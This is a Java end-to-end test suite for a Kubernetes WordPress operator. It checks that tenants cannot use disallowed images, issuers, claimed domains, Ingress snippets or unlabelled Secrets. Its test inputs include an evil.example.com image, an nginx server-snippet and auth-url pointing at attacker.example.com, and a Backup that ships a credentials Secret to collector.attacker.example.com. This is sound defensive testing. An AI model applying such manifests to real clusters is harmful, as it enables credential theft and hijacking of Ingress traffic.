package io.wpoven.e2e.site;

import static io.wpoven.e2e.harness.Sites.awaitReady;
import static io.wpoven.e2e.harness.Sites.condition;
import static io.wpoven.e2e.harness.Sites.events;
import static io.wpoven.e2e.harness.Sites.minimal;
import static io.wpoven.e2e.harness.TestNamespace.within;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.networking.v1.Ingress;
import io.wpoven.e2e.harness.E2eTest;
import io.wpoven.e2e.harness.TestNamespace;
import io.wpoven.operator.api.v1alpha1.Backup;
import io.wpoven.operator.api.v1alpha1.WordPressSite;

/**
 * A tenant who may write only wpoven.io objects cannot make the operator run an image, use a ClusterIssuer, take a
 * domain, pass Ingress snippets, or send a Secret the platform has not meant for it (KWOK: API behaviour).
 */
@E2eTest
class PlatformPolicyIT {
    static final Duration WAIT = Duration.ofSeconds(60);

    /** Domains unique to the test namespace: another test's site never holds them. */
    static String domain(TestNamespace ns, String host) {
        return host + "." + ns.name() + ".example.com";
    }

    static Condition awaitRefused(TestNamespace ns, String site, String reason) {
        return within(WAIT).alias(site + " Ready=False " + reason).until(() -> condition(ns.site(site).get(), "Ready"),
                c -> c != null && "False".equals(c.getStatus()) && reason.equals(c.getReason()));
    }

    static List<String> deployments(TestNamespace ns) {
        return ns.client().apps().deployments().inNamespace(ns.name()).list().getItems().stream()
                .map(d -> d.getMetadata().getName()).toList();
    }

    @Test
    void anImageThePlatformDoesNotAllowGetsAConditionAnEventAndNothingRolledOut(TestNamespace ns) {
        String site = minimal("blog", domain(ns, "blog"));
        ns.applySiteYaml(site + "  web: {image: 'evil.example.com/nginx:latest'}\n");
        Condition ready = awaitRefused(ns, "blog", "ImageNotAllowed");
        assertThat(ready.getMessage()).contains("spec.web.image (evil.example.com/nginx:latest)");
        within(WAIT).alias("ImageNotAllowed Event").until(() -> events(ns, "blog").stream()
                .anyMatch(e -> "ImageNotAllowed".equals(e.getReason()) && "Warning".equals(e.getType())));
        assertThat(deployments(ns)).as("nothing rolled out").isEmpty();
        assertThat(ns.client().secrets().inNamespace(ns.name()).withName("blog-credentials").get()).isNull();

        ns.applySiteYaml(site);
        awaitReady(ns, "blog");
        assertThat(ns.client().apps().deployments().inNamespace(ns.name()).withName("blog-proxy").get().getSpec()
                .getTemplate().getSpec().getContainers().get(0).getImage()).doesNotContain("evil");
    }

    @Test
    void aClusterIssuerTheNamespaceMayNotUseIsRefused(TestNamespace ns) {
        ns.applySiteYaml(minimal("blog", domain(ns, "blog")) + "  tls: {issuerRef: {name: someone-elses-ca, kind: ClusterIssuer}}\n");
        assertThat(awaitRefused(ns, "blog", "IssuerNotAllowed").getMessage()).contains("spec.tls.issuerRef", "someone-elses-ca");
        assertThat(deployments(ns)).isEmpty();
    }

    @Test
    void aDomainAnotherSiteClaimedFirstIsRefusedUntilThatSiteLetsGo(TestNamespace ns) {
        String shared = domain(ns, "shop");
        ns.applySiteYaml(minimal("first", shared));
        awaitReady(ns, "first");
        ns.applySiteYaml(minimal("second", domain(ns, "other") + ", " + shared));
        Condition refused = awaitRefused(ns, "second", "DomainClaimed");
        assertThat(refused.getMessage()).contains("spec.domains", shared, ns.name() + "/first");
        assertThat(deployments(ns)).noneMatch(d -> d.startsWith("second-"));
        assertThat(ns.client().network().v1().ingresses().inNamespace(ns.name()).withName("second").get()).isNull();
        assertThat(condition(ns.site("first").get(), "Ready").getStatus()).as("the older claim wins").isEqualTo("True");

        ns.site("first").delete();
        awaitReady(ns, "second");
        assertThat(ns.client().network().v1().ingresses().inNamespace(ns.name()).withName("second").get().getSpec()
                .getRules()).extracting(r -> r.getHost()).contains(shared);
    }

    @Test
    void ingressSnippetsAndAnnotationsOutsideTheAllowListNeverReachTheIngress(TestNamespace ns) {
        ns.applySiteYaml(minimal("blog", domain(ns, "blog")) + """
                  ingress:
                    annotations:
                      nginx.ingress.kubernetes.io/proxy-body-size: 64m
                      nginx.ingress.kubernetes.io/server-snippet: 'location /x { proxy_pass http://10.0.0.1; }'
                      nginx.ingress.kubernetes.io/configuration-snippet: 'more_set_headers "X: y";'
                      nginx.ingress.kubernetes.io/auth-url: 'http://attacker.example.com/'
                """);
        Ingress ingress = within(WAIT).alias("Ingress").until(() -> ns.get(Ingress.class, "blog").get(), i -> i != null);
        assertThat(ingress.getMetadata().getAnnotations()).containsEntry("nginx.ingress.kubernetes.io/proxy-body-size", "64m")
                .doesNotContainKeys("nginx.ingress.kubernetes.io/server-snippet",
                        "nginx.ingress.kubernetes.io/configuration-snippet", "nginx.ingress.kubernetes.io/auth-url");
    }

    @Test
    void credentialsSecretsMustBeMeantForTheirUseAndNeverTheSitesOwn(TestNamespace ns) {
        ns.client().secrets().inNamespace(ns.name()).resource(new SecretBuilder().withNewMetadata().withName("app-token")
                .endMetadata().withStringData(Map.of("access-key-id", "AKIA-APP", "secret-access-key", "app-secret"))
                .build()).create();
        ns.applySiteYaml(minimal("blog", domain(ns, "blog")));
        awaitReady(ns, "blog");
        ns.applyRaw("""
                apiVersion: wpoven.io/v1alpha1
                kind: Backup
                metadata: {name: offsite}
                spec:
                  siteRef: {name: blog}
                  storage: {s3: {endpoint: 'https://collector.attacker.example.com', bucket: loot, credentialsSecret: {name: app-token}}}
                """);
        Condition cannot = within(WAIT).alias("Backup Ready=False").until(() -> {
            Backup b = ns.get(Backup.class, "offsite").get();
            return b == null || b.getStatus() == null ? null : b.getStatus().getConditions().stream()
                    .filter(c -> c.getType().equals("Ready") && c.getStatus().equals("False")).findFirst().orElse(null);
        }, c -> c != null);
        assertThat(cannot.getMessage()).contains("spec.storage.s3.credentialsSecret", "app-token", "wpoven.io/credentials=s3");
        assertThat(jobs(ns, "offsite")).as("no Job sends the Secret anywhere").isEmpty();

        // the platform (or the tenant, for a Secret of its own) labels the Secret for S3: now it runs
        ns.client().secrets().inNamespace(ns.name()).withName("app-token")
                .edit(s -> new SecretBuilder(s).editMetadata().addToLabels("wpoven.io/credentials", "s3").endMetadata().build());
        within(WAIT).alias("the backup Job").until(() -> !jobs(ns, "offsite").isEmpty());

        // a site's own credentials are never credentials for anything else, labelled or not
        ns.client().secrets().inNamespace(ns.name()).withName("blog-credentials")
                .edit(s -> new SecretBuilder(s).editMetadata().addToLabels("wpoven.io/credentials", "database").endMetadata().build());
        ns.applySiteYaml(minimal("ext", domain(ns, "ext")) + """
                  database:
                    external: {host: db.example.com, name: wp, credentialsSecret: {name: blog-credentials, usernameKey: database-password}}
                """);
        assertThat(awaitRefused(ns, "ext", "SecretNotAllowed").getMessage())
                .contains("spec.database.external.credentialsSecret", "made by the operator");
        assertThat(deployments(ns)).noneMatch(d -> d.startsWith("ext-"));
    }

    /**
     * spec.placement and the site's pull secrets: a PriorityClass the platform does not hand out and a pull secret not
     * labelled for registries are refused with a condition and an Event; once allowed, every pod template carries both.
     */
    @Test
    void aPlacementAndPullSecretsReachThePodsOnlyAsThePlatformAllows(TestNamespace ns) {
        String site = minimal("pool", domain(ns, "pool"));
        ns.applySiteYaml(site + "  placement: {priorityClassName: gold}\n");
        assertThat(awaitRefused(ns, "pool", "PriorityClassNotAllowed").getMessage())
                .contains("spec.placement.priorityClassName", "gold", "allowed-priority-classes");
        within(WAIT).alias("PriorityClassNotAllowed Event").until(() -> events(ns, "pool").stream()
                .anyMatch(e -> "PriorityClassNotAllowed".equals(e.getReason()) && "Warning".equals(e.getType())));
        assertThat(deployments(ns)).as("nothing rolled out").isEmpty();

        ns.client().secrets().inNamespace(ns.name()).resource(new SecretBuilder().withNewMetadata().withName("team-pull")
                .endMetadata().withType("kubernetes.io/dockerconfigjson")
                .withStringData(Map.of(".dockerconfigjson", "{\"auths\":{}}")).build()).create();
        ns.applySiteYaml(site + """
                  podTemplate: {imagePullSecrets: [team-pull]}
                  placement:
                    nodeSelector: {wpoven.io/pool: premium}
                    tolerations: [{key: wpoven.io/pool, operator: Equal, value: premium, effect: NoSchedule}]
                """);
        assertThat(awaitRefused(ns, "pool", "SecretNotAllowed").getMessage())
                .contains("spec.podTemplate.imagePullSecrets[0]", "team-pull", "wpoven.io/credentials=registry");
        within(WAIT).alias("SecretNotAllowed Event").until(() -> events(ns, "pool").stream()
                .anyMatch(e -> "SecretNotAllowed".equals(e.getReason()) && e.getMessage().contains("imagePullSecrets")));
        assertThat(deployments(ns)).as("no pod pulls with it").isEmpty();

        ns.client().secrets().inNamespace(ns.name()).withName("team-pull").edit(s -> new SecretBuilder(s).editMetadata()
                .addToLabels("wpoven.io/credentials", "registry").endMetadata().build());
        var wordpress = within(WAIT).alias("the WordPress Deployment").until(() -> ns.client().apps().deployments()
                .inNamespace(ns.name()).withName("pool-wordpress").get(), d -> d != null);
        var install = within(WAIT).alias("the install Job").until(() -> ns.client().batch().v1().jobs()
                .inNamespace(ns.name()).withName("pool-install").get(), j -> j != null);
        for (var pod : List.of(wordpress.getSpec().getTemplate().getSpec(), install.getSpec().getTemplate().getSpec())) {
            assertThat(pod.getImagePullSecrets()).extracting(r -> r.getName()).contains("team-pull");
            assertThat(pod.getNodeSelector()).containsEntry("wpoven.io/pool", "premium");
            assertThat(pod.getTolerations()).anySatisfy(t -> assertThat(t.getKey()).isEqualTo("wpoven.io/pool"));
        }
        // no node of the pool exists here: the scheduler leaves the pods Pending, and the site says why in its words
        Condition pending = within(WAIT).alias("Ready False, Unschedulable").until(() -> condition(ns.site("pool").get(), "Ready"),
                c -> c != null && "False".equals(c.getStatus()) && "Unschedulable".equals(c.getReason()));
        assertThat(pending.getMessage()).contains("No node fits pod pool-", "node affinity/selector", "spec.placement");
    }

    static List<Job> jobs(TestNamespace ns, String backup) {
        return ns.client().batch().v1().jobs().inNamespace(ns.name()).withLabel("wpoven.io/backup", backup).list().getItems();
    }
}
